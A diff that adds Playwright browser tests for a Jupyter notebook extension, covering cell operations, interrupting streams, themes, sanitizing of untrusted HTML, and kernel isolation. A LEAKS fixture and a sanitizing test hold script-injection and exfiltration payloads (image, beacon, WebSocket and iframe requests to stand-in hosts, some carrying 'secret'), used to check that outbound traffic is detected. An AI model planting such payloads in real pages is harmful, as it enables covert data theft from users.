@@ -1,0 +1,145 @@
+"""The harness sees what a reader sees, and notices what must not happen."""
+
+import time
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.conftest import OpenNotebook
+
+STREAM = """\
+import time
+from IPython.display import HTML, display, update_display
+display(HTML("<div class='nbclaude'><p>word 0</p></div>"), display_id="a")
+for n in range(1, 600):
+    time.sleep(0.05)
+    update_display(HTML(f"<div class='nbclaude'><p>word {n}</p></div>"), display_id="a")
+"""
+
+
+def test_cells_are_run_edited_inserted_and_deleted(open_notebook: OpenNotebook) -> None:
+    notebook = open_notebook(["print('one')", "print('two')", "#md A **note**."])
+    notebook.run(0)
+    assert notebook.text(0).strip() == "one"
+    notebook.edit(1, "print('zwei')")
+    notebook.run_all()
+    assert notebook.text(1).strip() == "zwei"
+    assert notebook.execution_count(1) == 3
+    notebook.delete(0)
+    assert notebook.cell_ids() == ["cell-1", "cell-2"]
+    notebook.insert(0, "print(get_ipython().get_parent()['metadata']['deletedCells'])")
+    notebook.run(0)
+    assert notebook.text(0).strip() == "['cell-0']"
+
+
+def test_the_stop_button_stops(open_notebook: OpenNotebook) -> None:
+    notebook = open_notebook([STREAM])
+    notebook.start(0)
+    expect(notebook.answer(0)).to_contain_text("word 5")
+    before = time.monotonic()
+    notebook.stop()
+    notebook.wait_until_idle()
+    assert time.monotonic() - before < 5
+    assert "KeyboardInterrupt" in notebook.text(0)
+    assert "word" in notebook.text(0)
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_pictures_of_both_themes_at_two_widths(open_notebook: OpenNotebook, theme: str) -> None:
+    notebook = open_notebook(["#md # A heading", "print('hello')"], theme=theme)
+    notebook.run(1)
+    wide = notebook.outputs(1).bounding_box()
+    picture = notebook.screenshot("harness")
+    assert picture.name == f"harness-{theme}.png"
+    assert picture.stat().st_size > 5_000
+    notebook.set_width(700)
+    narrow = notebook.outputs(1).bounding_box()
+    assert wide is not None
+    assert narrow is not None
+    assert narrow["width"] < wide["width"] - 400
+    other = {"light": "dark", "dark": "light"}[theme]
+    notebook.set_theme(other)
+    assert notebook.script("return document.body.dataset.jpThemeLight") == str(other == "light").lower()
+
+
+def test_a_stranger_s_notebook_is_shown_sanitized(open_notebook: OpenNotebook) -> None:
+    canary = "<b>bold</b><script>window.canary = 1</script>"
+    notebook = open_notebook([f"from IPython.display import HTML\nHTML({canary!r})"])
+    notebook.run(0)
+    assert notebook.script("return window.canary") == 1
+    notebook.reopen()
+    assert notebook.is_trusted
+    assert notebook.saved()["cells"][0]["outputs"][0]["data"]["text/html"]
+    notebook.reopen(trusted=False)
+    assert not notebook.is_trusted
+    assert notebook.outputs(0).inner_text().strip() == "bold"
+    assert notebook.script("return window.canary === undefined")
+
+
+LEAKS = {
+    "pixel.example": "<img src='https://pixel.example/?q=secret'>",
+    "style.example": "<p style='background: url(https://style.example/)'>text</p>",
+    "prefetch.example": "<link rel='prefetch' href='https://prefetch.example/'>",
+    "beacon.example": "<script>navigator.sendBeacon('https://beacon.example/', 'secret')</script>",
+    "socket.example": "<script>new WebSocket('wss://socket.example/')</script>",
+    "frame.example": "<iframe src='http://frame.example/'></iframe>",
+    "127.0.0.1:9": "<img src='http://127.0.0.1:9/other-port'>",
+}
+
+
+def test_whatever_leaves_the_page_is_noticed(open_notebook: OpenNotebook) -> None:
+    notebook = open_notebook([f"from IPython.display import HTML\nHTML({leak!r})" for leak in LEAKS.values()])
+    notebook.watch.check()
+    notebook.run_all()
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        missed = [host for host in LEAKS if host not in str(notebook.watch.foreign_requests)]
+        if not missed:
+            break
+        notebook.page.wait_for_timeout(50)
+    assert missed == []
+    assert "CONNECT pixel.example:443" in str(notebook.watch.foreign_requests)
+    with pytest.raises(AssertionError, match="requests to other hosts"):
+        notebook.watch.check()
+    notebook.watch.forget()
+
+
+def test_dialogs_popups_and_errors_are_noticed(open_notebook: OpenNotebook) -> None:
+    notebook = open_notebook(["1"])
+    notebook.script("alert('canary')")
+    notebook.script("setTimeout(() => { throw new Error('canary') })")
+    notebook.script("window.open('about:blank')")
+    notebook.page.wait_for_timeout(200)
+    watch = notebook.watch
+    assert watch.dialogs == ["alert: canary"]
+    assert len(watch.popups) == 1
+    assert watch.page_errors == ["canary"]
+    watch.forget()
+
+
+def test_frames_long_tasks_and_traffic_are_measured(open_notebook: OpenNotebook) -> None:
+    notebook = open_notebook(["print('x' * 100_000)"])
+    notebook.start_recording()
+    notebook.run(0)
+    busy = "const end = performance.now() + 200; while (performance.now() < end) {}"
+    notebook.script(f"setTimeout(() => {{ {busy} }})")
+    notebook.page.wait_for_timeout(500)
+    recording = notebook.stop_recording()
+    assert 100_000 < recording.websocket_bytes < 150_000
+    assert any(150 < duration < 1_000 for duration in recording.long_tasks)
+    assert recording.worst_frame_gap > 150
+    assert recording.frame_gap(50) < 50
+
+
+def test_each_notebook_has_a_kernel_and_an_environment_of_its_own(open_notebook: OpenNotebook) -> None:
+    look = "import os; print(os.environ.get('ANTHROPIC_API_KEY'), 'x' in dir()); x = 1"
+    first = open_notebook([look], name="first", environment={"ANTHROPIC_API_KEY": "canary"})
+    first.run(0)
+    assert first.text(0).strip() == "canary False"
+    second = open_notebook([look], name="second")
+    second.run(0)
+    assert second.text(0).strip() == "None False"
+    second.restart_kernel()
+    second.run(0)
+    assert second.text(0).strip() == "None False"
+    assert len(first.lab.kernels()) == 2
